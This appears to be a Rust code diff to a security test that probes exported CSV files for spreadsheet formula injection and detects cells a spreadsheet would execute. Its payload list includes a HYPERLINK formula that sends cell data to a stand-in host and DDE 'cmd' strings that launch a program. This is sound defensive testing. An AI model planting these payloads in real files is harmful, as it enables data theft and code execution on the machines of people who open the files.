@@ -11,7 +11,7 @@ pub(crate) const TRIES: &str =
     "An answer or an identifier is a formula that a spreadsheet executes when the researcher opens a file.";
 
 /// Cells that a spreadsheet takes for a formula.
-const FORMULAS: [&str; 9] = [
+const FORMULAS: [&str; 11] = [
     "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
@@ -22,6 +22,9 @@ const FORMULAS: [&str; 9] = [
     "because;=1+1;",
     "because\n@SUM(1+1);",
     "because\t+1+cmd|' /C calc'!A0",
+    // A quotation mark that begins a cell there.
+    "because;\"=1+1;b",
+    "because\n\"=1+1",
 ];
 
 pub(crate) async fn attack(world: &mut World, variant: &mut Variant) -> anyhow::Result<Observed> {
@@ -91,25 +94,41 @@ pub(crate) async fn attack(world: &mut World, variant: &mut Variant) -> anyhow::
         for file in std::fs::read_dir(folder)? {
             let path = file?.path();
             files += 1;
-            let mut reader = csv::ReaderBuilder::new()
-                .has_headers(false)
-                .flexible(true)
-                .from_path(&path)?;
-            for record in reader.records() {
-                let record = record?;
-                let is_live = |cell: &&str| cell.trim_start_matches(' ').starts_with(['=', '+', '-', '@', '\t', '\r']);
-                let is_number = |cell: &&str| cell.parse::<f64>().is_ok();
-                // A program may split a cell again.
-                let parts = |cell| std::iter::once(cell).chain(str::split(cell, [';', '\n', '\r', '\t']));
-                let mut cells = record.iter().flat_map(parts);
-                let live = cells.find(|cell| is_live(cell) && !is_number(cell));
-                if let Some(cell) = live {
-                    let name = path.file_name().unwrap_or_default().to_string_lossy();
-                    found.push(format!("{name}: {cell:?}"));
-                }
-            }
+            let name = path.file_name().unwrap_or_default().to_string_lossy().into_owned();
+            let text = std::fs::read(&path)?;
+            let live = [b',', b';', b'\t'].map(|split| find_live(&text, split));
+            found.extend(live.into_iter().flatten().map(|cell| format!("{name}: {cell:?}")));
         }
     }
     let seen = format!("in {files} files, cells that a spreadsheet executes: {found:?}");
     Ok(Observed::broken_if(!found.is_empty(), seen))
+}
+
+/// A cell that a spreadsheet executes which splits the file there, or at every line break and quotation mark too.
+fn find_live(text: &[u8], split: u8) -> Option<String> {
+    let is_live = |cell: &str| {
+        let cell = cell.trim_start_matches(' ');
+        cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
+    };
+    let mut reader = csv::ReaderBuilder::new();
+    let mut reader = reader.has_headers(false).flexible(true).delimiter(split).from_reader(text);
+    let records = reader.byte_records().map_while(Result::ok);
+    let mut cells = records.flat_map(|record| {
+        let cells = record.iter().map(|cell| String::from_utf8_lossy(cell).into_owned());
+        cells.collect::<Vec<_>>()
+    });
+    let live = cells.find(|cell| cell.split([';', '\n', '\r', '\t']).any(is_live));
+    if split == b',' {
+        return live;
+    }
+    // A program that knows no quotes around line breaks.
+    let lines = text.split(|byte| *byte == b'\n' || *byte == b'\r');
+    let mut parts = lines.flat_map(|line| line.split(|byte| *byte == split));
+    let bare = parts.find_map(|part| {
+        let part = String::from_utf8_lossy(part).into_owned();
+        let cell = part.strip_prefix('"').unwrap_or(&part).to_owned();
+        let cell = cell.strip_prefix("\"\"").map_or(cell.clone(), str::to_owned);
+        is_live(&cell).then_some(cell)
+    });
+    live.or(bare)
 }
